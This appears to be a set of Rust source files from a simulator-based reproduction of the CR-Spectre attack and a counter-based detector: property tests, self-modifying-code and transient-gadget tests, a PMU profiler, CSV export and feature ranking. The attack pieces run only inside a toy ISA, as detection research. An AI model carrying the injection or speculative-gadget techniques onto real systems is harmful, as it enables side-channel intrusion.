    fn hierarchy_latency_monotone(addr in any::<u64>()) {
        let mut h = CacheHierarchy::new(HierarchyConfig::default());
        let first = h.access_data(addr);
        let second = h.access_data(addr);
        prop_assert!(second.latency <= first.latency);
        prop_assert!(second.l1_hit);
    }

    /// probe_data_latency never mutates state: probing twice and then
    /// accessing gives the same miss the access would have had.
    #[test]
    fn probe_latency_is_pure(addr in any::<u64>()) {
        let mut h = CacheHierarchy::new(HierarchyConfig::default());
        let p1 = h.probe_data_latency(addr);
        let p2 = h.probe_data_latency(addr);
        prop_assert_eq!(p1, p2);
        prop_assert!(!h.data_resident(addr));
        let real = h.access_data(addr);
        prop_assert_eq!(real.latency, p1.latency);
    }

    /// Memory permissions are enforced for every page-aligned region.
    #[test]
    fn perms_partition_access(page in 0u64..8, kind in 0u8..3) {
        let mut mem = Memory::new(PAGE_SIZE * 8);
        let perms = match kind {
            0 => Perms::R,
            1 => Perms::RW,
            _ => Perms::RX,
        };
        mem.set_perms(page * PAGE_SIZE, PAGE_SIZE, perms);
        let addr = page * PAGE_SIZE + 100;
        prop_assert_eq!(mem.read_u8(addr).is_ok(), perms.r);
        prop_assert_eq!(mem.write_u8(addr, 1).is_ok(), perms.w);
        let mut buf = [0u8; 8];
        prop_assert_eq!(mem.fetch(addr, &mut buf).is_ok(), perms.x);
    }

    /// PMU deltas are consistent: delta(a→c) = delta(a→b) + delta(b→c)
    /// per event, for any increment sequence.
    #[test]
    fn pmu_deltas_compose(
        incs in proptest::collection::vec((0u8..56, 1u64..1000), 1..30),
        at_split in 0usize..30,
    ) {
        let pmu = Pmu::new();
        let a = pmu.snapshot();
        let split = at_split.min(incs.len());
        for &(e, n) in &incs[..split] {
            pmu.add(HpcEvent::from_index(e).unwrap(), n);
        }
        let b = pmu.snapshot();
        for &(e, n) in &incs[split..] {
            pmu.add(HpcEvent::from_index(e).unwrap(), n);
        }
        let c = pmu.snapshot();
        for event in HpcEvent::all() {
            prop_assert_eq!(
                (c - a).count(event),
                (b - a).count(event) + (c - b).count(event)
            );
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    /// Running any straight-line ALU program retires exactly its length
    /// and the machine's cycle count is the PMU's cycle count.
    #[test]
    fn retirement_and_cycles_agree(
        ops in proptest::collection::vec((0u8..8, 0u8..14, 0u8..14, any::<i32>()), 1..40)
    ) {
        let mut text = Vec::new();
        for (op, rd, rs, imm) in &ops {
            let alu = [
                AluOp::Add, AluOp::Sub, AluOp::Mul, AluOp::And,
                AluOp::Or, AluOp::Xor, AluOp::Shl, AluOp::Shr,
            ][*op as usize];
            let instr = Instr::Alui(
                alu,
                Reg::from_index(*rd).unwrap(),
                Reg::from_index(*rs).unwrap(),
                *imm,
            );
            text.extend_from_slice(&instr.encode());
        }
        text.extend_from_slice(&Instr::Halt.encode());
        let image = Image::new(
            "prop",
            vec![ImageSegment { name: ".text".into(), kind: SegKind::Text, offset: 0, bytes: text }],
            0,
        );
        let mut machine = Machine::new(MachineConfig::default());
        let loaded = machine.load(&image).unwrap();
        machine.start(loaded.entry);
        let out = machine.run();
        prop_assert!(out.exit.is_clean());
        prop_assert_eq!(out.instructions, ops.len() as u64 + 1);
        prop_assert_eq!(machine.pmu().count(HpcEvent::Instructions), out.instructions);
        prop_assert_eq!(machine.pmu().count(HpcEvent::Cycles), out.cycles);
    }
}

//! The execution fast path must be invisible: the predecoded-instruction
//! cache and the page-permission cache may never change a single
//! architectural or microarchitectural outcome, and — the load-bearing
//! case for CR-Spectre, whose ROP chain injects the Spectre binary into
//! the host image at runtime — self-modifying code must always execute
//! the *new* bytes, never a stale decode.

use cr_spectre_sim::config::MachineConfig;
use cr_spectre_sim::cpu::{Machine, StepStatus};
use cr_spectre_sim::image::{Image, ImageSegment, SegKind};
use cr_spectre_sim::isa::{BranchCond, Instr, Reg, Width, INSTR_BYTES};
use cr_spectre_sim::mem::{Perms, PAGE_SIZE};
use cr_spectre_sim::pmu::HpcEvent;

fn image_from(instrs: &[Instr]) -> Image {
    let bytes: Vec<u8> = instrs.iter().flat_map(|i| i.encode()).collect();
    Image::new(
        "test",
        vec![ImageSegment { name: ".text".into(), kind: SegKind::Text, offset: 0, bytes }],
        0,
    )
}

/// A guest that patches an instruction it has *already executed*, jumps
/// back, and re-executes it. Needs DEP off (text is then RWX) — exactly
/// the self-modifying shape a runtime code injection produces.
fn self_patching_program() -> Vec<Instr> {
    // The patch target starts as `Ldi(R5, 1)` and is overwritten, by the
    // guest itself, with the encoding of `Ldi(R5, 99)`.
    let patched = u64::from_le_bytes(Instr::Ldi(Reg::R5, 99).encode());
    let lo = (patched & 0xffff_ffff) as u32;
    let hi = (patched >> 32) as u32;
    vec![
        /* i0 */ Instr::Ldi(Reg::R4, 0),
        /* i1 */ Instr::Ldi(Reg::R5, 1), // patch target (R7 = its address)
        /* i2 */ Instr::Br(BranchCond::Ne, Reg::R4, Reg::R0, 6 * INSTR_BYTES as i32),
        /* i3 */ Instr::Ldi(Reg::R6, lo as i32),
        /* i4 */ Instr::Ldih(Reg::R6, hi as i32),
        /* i5 */ Instr::St(Width::D, Reg::R7, Reg::R6, 0),
        /* i6 */ Instr::Ldi(Reg::R4, 1),
        /* i7 */ Instr::Jmp(-(6 * INSTR_BYTES as i32)),
        /* i8 */ Instr::Halt,
    ]
}

fn run_self_patching(fast_path: bool) -> Machine {
    let mut cfg = MachineConfig { fast_path, ..MachineConfig::default() };
    cfg.protect.dep = false;
    let mut m = Machine::new(cfg);
    let li = m.load(&image_from(&self_patching_program())).unwrap();
    m.start(li.entry);
    m.set_reg(Reg::R7, li.entry + INSTR_BYTES as u64); // address of i1
    let out = m.run();
    assert!(out.exit.is_clean(), "self-patching run exits cleanly: {:?}", out.exit);
    m
}

#[test]
fn guest_store_into_own_text_executes_new_bytes() {
    let m = run_self_patching(true);
    assert_eq!(
        m.reg(Reg::R5),
        99,
        "second pass over the patched instruction must see the new decode"
    );
}

#[test]
fn self_modifying_run_is_identical_with_fast_path_off() {
    let fast = run_self_patching(true);
    let slow = run_self_patching(false);
    assert_eq!(fast.reg(Reg::R5), slow.reg(Reg::R5));
    assert_eq!(fast.cycles(), slow.cycles(), "identical timing");
    assert_eq!(
        fast.pmu().snapshot(),
        slow.pmu().snapshot(),
        "identical performance-counter trace"
    );
}

#[test]
fn host_poke_of_already_executed_address_is_served_fresh() {
    // DEP stays on: `poke` bypasses permissions, like the debugger/loader
    // (and the attack harness) does.
    let mut m = Machine::new(MachineConfig::default());
    let li = m
        .load(&image_from(&[
            Instr::Ldi(Reg::R5, 1),
            Instr::Jmp(-(INSTR_BYTES as i32)),
        ]))
        .unwrap();
    m.start(li.entry);
    // Execute both instructions twice so every slot is warm in the
    // predecode cache.
    for _ in 0..4 {
        assert_eq!(m.step(), StepStatus::Running);
    }
    assert_eq!(m.reg(Reg::R5), 1);
    // Host patches the already-executed, already-cached first instruction.
    m.mem_mut().poke(li.entry, &Instr::Ldi(Reg::R5, 42).encode());
    for _ in 0..2 {
        assert_eq!(m.step(), StepStatus::Running);
    }
    assert_eq!(m.reg(Reg::R5), 42, "poked bytes must be decoded, not the stale cache");
    // And a second poke turns the loop into a halt.
    m.mem_mut().poke(li.entry + INSTR_BYTES as u64, &Instr::Halt.encode());
    for _ in 0..4 {
        if let StepStatus::Done(exit) = m.step() {
            assert!(exit.is_clean());
            return;
        }
    }
    panic!("machine did not halt after the loop was patched out");
}

#[test]
fn transient_execution_sees_poked_code() {
    // Speculation fetches through the same decode cache; a poke between
    // bursts must invalidate it there too.
    let run = |fast_path: bool| {
        let cfg = MachineConfig { fast_path, ..MachineConfig::default() };
        let mut m = Machine::new(cfg);
        let probe = m.alloc(PAGE_SIZE, Perms::RW);
        let code = m.alloc(PAGE_SIZE, Perms::RW);
        let body: Vec<u8> = [Instr::Ld(Width::B, Reg::R9, Reg::R6, 0), Instr::Halt]
            .iter()
            .flat_map(|i| i.encode())
            .collect();
        m.mem_mut().poke(code, &body);
        m.mem_mut().set_perms(code, PAGE_SIZE, Perms::RX);
        m.set_reg(Reg::R6, probe);
        m.caches_mut().flush_line(probe);
        m.speculate_at(code, 400);
        let first = (m.pmu().snapshot(), m.caches().data_resident(probe));
        // Rewrite the transient gadget: now it's a pure Halt, no load.
        m.mem_mut().poke(code, &Instr::Halt.encode());
        m.caches_mut().flush_line(probe);
        m.speculate_at(code, 400);
        let loads_after = m.pmu().count(HpcEvent::SpecLoads);
        let resident_after = m.caches().data_resident(probe);
        (first, loads_after, resident_after)
    };
    let fast = run(true);
    let slow = run(false);
    assert_eq!(fast, slow, "transient fast path is invisible");
    let (_, loads_after, resident_after) = fast;
    assert_eq!(loads_after, 1, "the second burst must not replay the stale load");
    assert!(!resident_after, "no transient fill after the gadget was patched out");
}

#[test]
fn whole_workload_equivalence_fast_vs_slow() {
    // A branchy, memory-heavy guest with speculation: checksum a buffer
    // with a data-dependent branch in the loop.
    let run = |fast_path: bool| {
        let cfg = MachineConfig { fast_path, ..MachineConfig::default() };
        let mut m = Machine::new(cfg);
        let buf = m.alloc(PAGE_SIZE, Perms::RW);
        let data: Vec<u8> = (0u32..512).map(|i| (i * 31 % 251) as u8).collect();
        m.mem_mut().poke(buf, &data);
        let li = m
            .load(&image_from(&[
                /* i0 */ Instr::Ldi(Reg::R1, buf as i32),
                /* i1 */ Instr::Ldi(Reg::R2, 0),   // index
                /* i2 */ Instr::Ldi(Reg::R3, 512), // len
                /* i3 */ Instr::Ldi(Reg::R4, 0),   // accumulator
                // loop:
                /* i4 */ Instr::Alu(cr_spectre_sim::isa::AluOp::Add, Reg::R8, Reg::R1, Reg::R2),
                /* i5 */ Instr::Ld(Width::B, Reg::R9, Reg::R8, 0),
                // data-dependent branch: skip odd bytes.
                /* i6 */ Instr::Alui(cr_spectre_sim::isa::AluOp::And, Reg::R10, Reg::R9, 1),
                /* i7 */ Instr::Br(BranchCond::Ne, Reg::R10, Reg::R0, 2 * INSTR_BYTES as i32),
                /* i8 */ Instr::Alu(cr_spectre_sim::isa::AluOp::Add, Reg::R4, Reg::R4, Reg::R9),
                /* i9 */ Instr::Alui(cr_spectre_sim::isa::AluOp::Add, Reg::R2, Reg::R2, 1),
                /* i10 */ Instr::Br(BranchCond::Ne, Reg::R2, Reg::R3, -(6 * INSTR_BYTES as i32)),
                /* i11 */ Instr::Halt,
            ]))
            .unwrap();
        m.start(li.entry);
        let out = m.run();
        assert!(out.exit.is_clean());
        (out, m.reg(Reg::R4), m.pmu().snapshot())
    };
    let fast = run(true);
    let slow = run(false);
    assert_eq!(fast.0, slow.0, "identical run outcome (instructions, cycles, exit)");
    assert_eq!(fast.1, slow.1, "identical checksum");
    assert_eq!(fast.2, slow.2, "identical 56-counter PMU trace");
    assert!(
        fast.2.count(HpcEvent::SpecInstrs) > 0,
        "the workload actually speculated — the equivalence is not vacuous"
    );
}

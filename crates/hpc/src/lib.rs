//! # cr-spectre-hpc
//!
//! Hardware-performance-counter profiling for the CR-Spectre
//! reproduction: the simulator analogue of the paper's PAPI-based tool.
//!
//! * [`profiler`] — step a machine and record per-window deltas of all 56
//!   PMU counters;
//! * [`features`] — the paper's ranked feature sets (sizes 1/2/4/8/16)
//!   and train-fit z-score normalization;
//! * [`dataset`] — labelled sample matrices with the paper's seeded
//!   70/30 train/test split.
//!
//! # Example
//!
//! ```
//! use cr_spectre_hpc::{dataset::{Dataset, Label}, features::FeatureSet, profiler};
//! use cr_spectre_sim::{config::MachineConfig, cpu::Machine};
//! use cr_spectre_workloads::{host::standalone_image, mibench::Mibench};
//!
//! let image = standalone_image(Mibench::Crc32);
//! let mut machine = Machine::new(MachineConfig::default());
//! let loaded = machine.load(&image).expect("loads");
//! machine.start(loaded.entry);
//! let trace = profiler::profile(&mut machine, "crc32", 2_000);
//!
//! let features = FeatureSet::paper_default();
//! let mut data = Dataset::new();
//! data.push_trace(&trace, Label::Benign, &features);
//! assert_eq!(data.len(), trace.len());
//! ```

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

pub mod dataset;
pub mod export;
pub mod features;
pub mod profiler;

pub use dataset::{Dataset, Label};
pub use features::{FeatureSet, Normalizer};
pub use profiler::{profile, Sample, Trace};

//! Runtime profiler: interval sampling of the PMU while a guest runs.
//!
//! This is the simulator analogue of the paper's PAPI-based profiling
//! tool: it steps the machine and records, every `interval` cycles, the
//! *delta* of all 56 hardware performance counters over that window. The
//! HID consumes per-window deltas, exactly as a real sampling profiler
//! delivers counter readings per sampling period.

use cr_spectre_sim::cpu::{Machine, StepStatus};
use cr_spectre_sim::error::RunOutcome;
use cr_spectre_sim::pmu::{HpcEvent, PmuSnapshot};
use cr_spectre_telemetry as telemetry;

/// One sampling window's counter deltas.
#[derive(Debug, Clone)]
pub struct Sample {
    /// Cycle count at the end of the window.
    pub at_cycle: u64,
    /// Counter deltas over the window.
    pub deltas: PmuSnapshot,
}

impl Sample {
    /// The delta of one event in this window.
    pub fn count(&self, event: HpcEvent) -> u64 {
        self.deltas.count(event)
    }
}

/// A complete profiled run.
#[derive(Debug, Clone)]
pub struct Trace {
    /// Name tag (application identity, for bookkeeping).
    pub app: String,
    /// The sampling windows in time order.
    pub samples: Vec<Sample>,
    /// How the run ended.
    pub outcome: RunOutcome,
}

impl Trace {
    /// Number of windows recorded.
    pub fn len(&self) -> usize {
        self.samples.len()
    }

    /// Whether no windows were recorded.
    pub fn is_empty(&self) -> bool {
        self.samples.is_empty()
    }

    /// Extracts the feature matrix for the given event selection, one row
    /// per window.
    pub fn feature_rows(&self, events: &[HpcEvent]) -> Vec<Vec<f64>> {
        self.samples
            .iter()
            .map(|s| events.iter().map(|&e| s.count(e) as f64).collect())
            .collect()
    }
}

/// Samples all counters every `interval` cycles while running `machine`
/// to completion. A final partial window is recorded if it contains at
/// least one retired instruction.
///
/// The machine must already be started (`start`/`start_with_arg`).
pub fn profile(machine: &mut Machine, app: &str, interval: u64) -> Trace {
    assert!(interval > 0, "sampling interval must be nonzero");
    // Per-trial telemetry: one span per profiled run with wall time and
    // speculation activity. The step loop itself stays uninstrumented —
    // everything here reads the PMU once at the end.
    let mut span = telemetry::span("hpc.profile");
    let wall_start = span.is_recording().then(std::time::Instant::now);
    let mut samples = Vec::new();
    let mut last = machine.pmu().snapshot();
    let mut next = machine.cycles() + interval;
    let outcome = loop {
        match machine.step() {
            StepStatus::Running => {
                if machine.cycles() >= next {
                    let snap = machine.pmu().snapshot();
                    samples.push(Sample { at_cycle: machine.cycles(), deltas: snap - last });
                    last = snap;
                    while next <= machine.cycles() {
                        next += interval;
                    }
                }
            }
            StepStatus::Done(exit) => {
                let snap = machine.pmu().snapshot();
                let tail = snap - last;
                if tail.count(HpcEvent::Instructions) > 0 {
                    samples.push(Sample { at_cycle: machine.cycles(), deltas: tail });
                }
                break RunOutcome {
                    exit,
                    instructions: machine.instructions(),
                    cycles: machine.cycles(),
                };
            }
        }
    };
    if span.is_recording() {
        span.field("app", app)
            .field("interval", interval)
            .field("windows", samples.len())
            .field("instructions", outcome.instructions)
            .field("cycles", outcome.cycles)
            .field("ipc", outcome.ipc());
        if let Some(start) = wall_start {
            let wall_ms = start.elapsed().as_secs_f64() * 1_000.0;
            span.field("wall_ms", wall_ms);
            telemetry::histogram("hpc.trial_wall_ms", wall_ms);
        }
        telemetry::counter("hpc.trials", 1);
        telemetry::counter("hpc.windows", samples.len() as u64);
        telemetry::histogram(
            "hpc.squashes_per_trial",
            machine.pmu().count(HpcEvent::SpecSquashes) as f64,
        );
        machine.emit_telemetry();
    }
    Trace { app: app.to_string(), samples, outcome }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cr_spectre_sim::config::MachineConfig;
    use cr_spectre_workloads::host::standalone_image;
    use cr_spectre_workloads::mibench::Mibench;

    fn profiled(interval: u64) -> Trace {
        let image = standalone_image(Mibench::Crc32);
        let mut m = Machine::new(MachineConfig::default());
        let li = m.load(&image).expect("loads");
        m.start(li.entry);
        profile(&mut m, "crc32", interval)
    }

    #[test]
    fn produces_many_windows() {
        let trace = profiled(2_000);
        assert!(trace.len() > 10, "got {} windows", trace.len());
        assert!(trace.outcome.exit.is_clean());
        assert!(!trace.is_empty());
    }

    #[test]
    fn deltas_sum_to_totals() {
        let trace = profiled(5_000);
        let total_instrs: u64 = trace
            .samples
            .iter()
            .map(|s| s.count(HpcEvent::Instructions))
            .sum();
        assert_eq!(total_instrs, trace.outcome.instructions);
        let total_cycles: u64 = trace.samples.iter().map(|s| s.count(HpcEvent::Cycles)).sum();
        assert_eq!(total_cycles, trace.outcome.cycles);
    }

    #[test]
    fn smaller_interval_means_more_windows() {
        assert!(profiled(1_000).len() > profiled(8_000).len());
    }

    #[test]
    fn feature_rows_shape() {
        let trace = profiled(4_000);
        let events = [HpcEvent::TotalCacheMiss, HpcEvent::Cycles];
        let rows = trace.feature_rows(&events);
        assert_eq!(rows.len(), trace.len());
        assert!(rows.iter().all(|r| r.len() == 2));
        // Cycles column is never zero for a full window.
        assert!(rows.iter().all(|r| r[1] > 0.0));
    }

    #[test]
    #[should_panic(expected = "nonzero")]
    fn zero_interval_panics() {
        let _ = profiled(0);
    }

    /// A guest that halts on its first instruction: the shortest possible
    /// run. The profiler must not fabricate windows and the delta/total
    /// invariant must still hold.
    #[test]
    fn zero_length_run_yields_at_most_the_tail_window() {
        use cr_spectre_sim::image::{Image, ImageSegment, SegKind};
        use cr_spectre_sim::isa::Instr;
        let text: Vec<u8> = Instr::Halt.encode().to_vec();
        let image = Image::new(
            "halt",
            vec![ImageSegment { name: ".text".into(), kind: SegKind::Text, offset: 0, bytes: text }],
            0,
        );
        let mut m = Machine::new(MachineConfig::default());
        let li = m.load(&image).expect("loads");
        m.start(li.entry);
        let trace = profile(&mut m, "halt", 2_000);
        assert!(trace.len() <= 1, "got {} windows", trace.len());
        assert!(trace.outcome.exit.is_clean());
        let total: u64 = trace.samples.iter().map(|s| s.count(HpcEvent::Instructions)).sum();
        assert_eq!(total, trace.outcome.instructions);
        if let Some(sample) = trace.samples.first() {
            assert!(sample.count(HpcEvent::Instructions) > 0, "tail window only if non-empty");
        }
    }

    /// An interval beyond the run's total cycles: everything lands in the
    /// single final partial window, which must carry the full totals.
    #[test]
    fn interval_larger_than_run_gives_one_window_with_totals() {
        let trace = profiled(u64::MAX);
        assert_eq!(trace.len(), 1, "exactly the tail window");
        let only = &trace.samples[0];
        assert_eq!(only.count(HpcEvent::Instructions), trace.outcome.instructions);
        assert_eq!(only.count(HpcEvent::Cycles), trace.outcome.cycles);
        assert_eq!(only.at_cycle, trace.outcome.cycles);
    }

    /// Window boundaries are strictly increasing cycle stamps — the HID's
    /// notion of time must never see a duplicated or reordered window.
    #[test]
    fn at_cycle_is_strictly_increasing() {
        for interval in [500u64, 2_000, 7_919] {
            let trace = profiled(interval);
            assert!(trace.len() > 1, "interval {interval}");
            for pair in trace.samples.windows(2) {
                assert!(
                    pair[0].at_cycle < pair[1].at_cycle,
                    "interval {interval}: {} !< {}",
                    pair[0].at_cycle,
                    pair[1].at_cycle
                );
            }
        }
    }
}

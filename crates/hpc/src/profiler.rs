//! Runtime profiler: interval sampling of the PMU while a guest runs.
//!
//! This is the simulator analogue of the paper's PAPI-based profiling
//! tool: it steps the machine and records, every `interval` cycles, the
//! *delta* of all 56 hardware performance counters over that window. The
//! HID consumes per-window deltas, exactly as a real sampling profiler
//! delivers counter readings per sampling period.

use cr_spectre_sim::cpu::{Machine, StepStatus};
use cr_spectre_sim::error::RunOutcome;
use cr_spectre_sim::pmu::{HpcEvent, PmuSnapshot};

/// One sampling window's counter deltas.
#[derive(Debug, Clone)]
pub struct Sample {
    /// Cycle count at the end of the window.
    pub at_cycle: u64,
    /// Counter deltas over the window.
    pub deltas: PmuSnapshot,
}

impl Sample {
    /// The delta of one event in this window.
    pub fn count(&self, event: HpcEvent) -> u64 {
        self.deltas.count(event)
    }
}

/// A complete profiled run.
#[derive(Debug, Clone)]
pub struct Trace {
    /// Name tag (application identity, for bookkeeping).
    pub app: String,
    /// The sampling windows in time order.
    pub samples: Vec<Sample>,
    /// How the run ended.
    pub outcome: RunOutcome,
}

impl Trace {
    /// Number of windows recorded.
    pub fn len(&self) -> usize {
        self.samples.len()
    }

    /// Whether no windows were recorded.
    pub fn is_empty(&self) -> bool {
        self.samples.is_empty()
    }

    /// Extracts the feature matrix for the given event selection, one row
    /// per window.
    pub fn feature_rows(&self, events: &[HpcEvent]) -> Vec<Vec<f64>> {
        self.samples
            .iter()
            .map(|s| events.iter().map(|&e| s.count(e) as f64).collect())
            .collect()
    }
}

/// Samples all counters every `interval` cycles while running `machine`
/// to completion. A final partial window is recorded if it contains at
/// least one retired instruction.
///
/// The machine must already be started (`start`/`start_with_arg`).
pub fn profile(machine: &mut Machine, app: &str, interval: u64) -> Trace {
    assert!(interval > 0, "sampling interval must be nonzero");
    let mut samples = Vec::new();
    let mut last = machine.pmu().snapshot();
    let mut next = machine.cycles() + interval;
    let outcome = loop {
        match machine.step() {
            StepStatus::Running => {
                if machine.cycles() >= next {
                    let snap = machine.pmu().snapshot();
                    samples.push(Sample { at_cycle: machine.cycles(), deltas: snap - last });
                    last = snap;
                    while next <= machine.cycles() {
                        next += interval;
                    }
                }
            }
            StepStatus::Done(exit) => {
                let snap = machine.pmu().snapshot();
                let tail = snap - last;
                if tail.count(HpcEvent::Instructions) > 0 {
                    samples.push(Sample { at_cycle: machine.cycles(), deltas: tail });
                }
                break RunOutcome {
                    exit,
                    instructions: machine.instructions(),
                    cycles: machine.cycles(),
                };
            }
        }
    };
    Trace { app: app.to_string(), samples, outcome }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cr_spectre_sim::config::MachineConfig;
    use cr_spectre_workloads::host::standalone_image;
    use cr_spectre_workloads::mibench::Mibench;

    fn profiled(interval: u64) -> Trace {
        let image = standalone_image(Mibench::Crc32);
        let mut m = Machine::new(MachineConfig::default());
        let li = m.load(&image).expect("loads");
        m.start(li.entry);
        profile(&mut m, "crc32", interval)
    }

    #[test]
    fn produces_many_windows() {
        let trace = profiled(2_000);
        assert!(trace.len() > 10, "got {} windows", trace.len());
        assert!(trace.outcome.exit.is_clean());
        assert!(!trace.is_empty());
    }

    #[test]
    fn deltas_sum_to_totals() {
        let trace = profiled(5_000);
        let total_instrs: u64 = trace
            .samples
            .iter()
            .map(|s| s.count(HpcEvent::Instructions))
            .sum();
        assert_eq!(total_instrs, trace.outcome.instructions);
        let total_cycles: u64 = trace.samples.iter().map(|s| s.count(HpcEvent::Cycles)).sum();
        assert_eq!(total_cycles, trace.outcome.cycles);
    }

    #[test]
    fn smaller_interval_means_more_windows() {
        assert!(profiled(1_000).len() > profiled(8_000).len());
    }

    #[test]
    fn feature_rows_shape() {
        let trace = profiled(4_000);
        let events = [HpcEvent::TotalCacheMiss, HpcEvent::Cycles];
        let rows = trace.feature_rows(&events);
        assert_eq!(rows.len(), trace.len());
        assert!(rows.iter().all(|r| r.len() == 2));
        // Cycles column is never zero for a full window.
        assert!(rows.iter().all(|r| r[1] > 0.0));
    }

    #[test]
    #[should_panic(expected = "nonzero")]
    fn zero_interval_panics() {
        let _ = profiled(0);
    }
}

//! Export of traces and datasets to CSV, for external plotting of the
//! regenerated figures.

use std::io::{self, Write};

use cr_spectre_sim::pmu::HpcEvent;

use crate::dataset::Dataset;
use crate::features::FeatureSet;
use crate::profiler::Trace;

/// Writes a trace as CSV: header `cycle,<event>,...`, one row per
/// sampling window, restricted to `features`.
///
/// The writer can be a `File`, a `Vec<u8>`, or anything else
/// implementing [`Write`] (pass `&mut writer` to keep ownership).
///
/// # Errors
///
/// Propagates I/O errors from the writer.
pub fn trace_to_csv<W: Write>(trace: &Trace, features: &FeatureSet, mut out: W) -> io::Result<()> {
    write!(out, "cycle")?;
    for event in features.events() {
        write!(out, ",{event}")?;
    }
    writeln!(out)?;
    for sample in &trace.samples {
        write!(out, "{}", sample.at_cycle)?;
        for &event in features.events() {
            write!(out, ",{}", sample.count(event))?;
        }
        writeln!(out)?;
    }
    Ok(())
}

/// Writes a full 56-event trace as CSV.
///
/// # Errors
///
/// Propagates I/O errors from the writer.
pub fn trace_to_csv_full<W: Write>(trace: &Trace, out: W) -> io::Result<()> {
    trace_to_csv(trace, &FeatureSet::all(), out)
}

/// Writes a labelled dataset as CSV: `label,f0,f1,...`.
///
/// # Errors
///
/// Propagates I/O errors from the writer.
pub fn dataset_to_csv<W: Write>(data: &Dataset, mut out: W) -> io::Result<()> {
    let dim = data.x.first().map_or(0, Vec::len);
    write!(out, "label")?;
    for i in 0..dim {
        write!(out, ",f{i}")?;
    }
    writeln!(out)?;
    for (row, label) in data.x.iter().zip(&data.y) {
        write!(out, "{label}")?;
        for v in row {
            write!(out, ",{v}")?;
        }
        writeln!(out)?;
    }
    Ok(())
}

/// Parses a dataset back from the CSV produced by [`dataset_to_csv`]
/// (round-trip support for offline analysis pipelines).
///
/// # Errors
///
/// Returns an [`io::Error`] with kind `InvalidData` on malformed rows.
pub fn dataset_from_csv(text: &str) -> io::Result<Dataset> {
    let bad = |msg: &str| io::Error::new(io::ErrorKind::InvalidData, msg.to_string());
    let mut lines = text.lines();
    let _header = lines.next().ok_or_else(|| bad("empty csv"))?;
    let mut data = Dataset::new();
    for line in lines {
        if line.trim().is_empty() {
            continue;
        }
        let mut fields = line.split(',');
        let label: u8 = fields
            .next()
            .ok_or_else(|| bad("missing label"))?
            .parse()
            .map_err(|_| bad("bad label"))?;
        let row: Result<Vec<f64>, _> = fields.map(str::parse).collect();
        let row = row.map_err(|_| bad("bad feature value"))?;
        data.push_row(
            row,
            if label == 1 {
                crate::dataset::Label::Attack
            } else {
                crate::dataset::Label::Benign
            },
        );
    }
    Ok(data)
}

/// The six headline events as a ready-made column list for external
/// tools.
pub fn paper_feature_names() -> Vec<String> {
    HpcEvent::PAPER_FEATURES.iter().map(|e| e.to_string()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dataset::Label;

    #[test]
    fn dataset_csv_round_trip() {
        let mut data = Dataset::new();
        data.push_row(vec![1.5, 2.0], Label::Benign);
        data.push_row(vec![-3.25, 4.0], Label::Attack);
        let mut buf = Vec::new();
        dataset_to_csv(&data, &mut buf).unwrap();
        let text = String::from_utf8(buf).unwrap();
        assert!(text.starts_with("label,f0,f1\n"));
        let parsed = dataset_from_csv(&text).unwrap();
        assert_eq!(parsed.x, data.x);
        assert_eq!(parsed.y, data.y);
    }

    #[test]
    fn malformed_csv_is_rejected() {
        assert!(dataset_from_csv("").is_err());
        assert!(dataset_from_csv("label,f0\nx,1.0\n").is_err());
        assert!(dataset_from_csv("label,f0\n1,notanumber\n").is_err());
    }

    #[test]
    fn trace_csv_has_one_row_per_window() {
        use cr_spectre_sim::config::MachineConfig;
        use cr_spectre_sim::cpu::Machine;
        use cr_spectre_workloads::host::standalone_image;
        use cr_spectre_workloads::mibench::Mibench;

        let image = standalone_image(Mibench::Crc32);
        let mut machine = Machine::new(MachineConfig::default());
        let loaded = machine.load(&image).unwrap();
        machine.start(loaded.entry);
        let trace = crate::profiler::profile(&mut machine, "crc32", 4_000);
        let mut buf = Vec::new();
        trace_to_csv(&trace, &FeatureSet::paper_default(), &mut buf).unwrap();
        let text = String::from_utf8(buf).unwrap();
        assert_eq!(text.lines().count(), trace.len() + 1);
        assert!(text.starts_with("cycle,TotalCacheMiss,"));
    }

    #[test]
    fn paper_feature_names_match() {
        let names = paper_feature_names();
        assert_eq!(names.len(), 6);
        assert_eq!(names[0], "TotalCacheMiss");
        assert_eq!(names[5], "Cycles");
    }
}

//! Feature selection and normalization.
//!
//! The paper monitors a subset of the 56 offline-collected events in real
//! time ("a limit is imposed on the number of events counted
//! simultaneously") and evaluates HID accuracy at feature sizes 16, 8, 4,
//! 2 and 1 (Figure 4). [`FeatureSet::paper`] reproduces that ranking: the
//! first events are the ones the cited detectors found most Spectre-
//! discriminative (cache misses, branch mispredictions, ...).

use cr_spectre_sim::pmu::HpcEvent;

/// An ordered selection of PMU events used as classifier features.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FeatureSet {
    events: Vec<HpcEvent>,
}

/// The paper-ranked event order used to build fixed-size feature sets.
/// The first six are the paper's named features; the rest extend to the
/// 16-counter budget of Figure 4 with standard PMU events.
const RANKED: [HpcEvent; 16] = [
    HpcEvent::TotalCacheMiss,
    HpcEvent::BranchMispredicts,
    HpcEvent::TotalCacheAccess,
    HpcEvent::BranchInstrs,
    HpcEvent::Instructions,
    HpcEvent::Cycles,
    HpcEvent::L1dMiss,
    HpcEvent::L2Miss,
    HpcEvent::L1dAccess,
    HpcEvent::L1iMiss,
    HpcEvent::Loads,
    HpcEvent::Stores,
    HpcEvent::BranchTaken,
    HpcEvent::Returns,
    HpcEvent::MemReads,
    HpcEvent::StallCyclesMem,
];

impl FeatureSet {
    /// The paper's feature set of `size` events (1, 2, 4, 8 or 16 in
    /// Figure 4; any size up to 16 is accepted).
    ///
    /// # Panics
    ///
    /// Panics when `size` is 0 or exceeds 16.
    pub fn paper(size: usize) -> FeatureSet {
        assert!((1..=RANKED.len()).contains(&size), "size must be 1..=16");
        FeatureSet { events: RANKED[..size].to_vec() }
    }

    /// The paper's default working set: 4 features ("we consider utilizing
    /// 4 features in this work").
    pub fn paper_default() -> FeatureSet {
        FeatureSet::paper(4)
    }

    /// A custom selection.
    pub fn custom(events: Vec<HpcEvent>) -> FeatureSet {
        assert!(!events.is_empty(), "feature set must be non-empty");
        FeatureSet { events }
    }

    /// All 56 events (offline analysis).
    pub fn all() -> FeatureSet {
        FeatureSet { events: HpcEvent::all().collect() }
    }

    /// The selected events in order.
    pub fn events(&self) -> &[HpcEvent] {
        &self.events
    }

    /// Number of features.
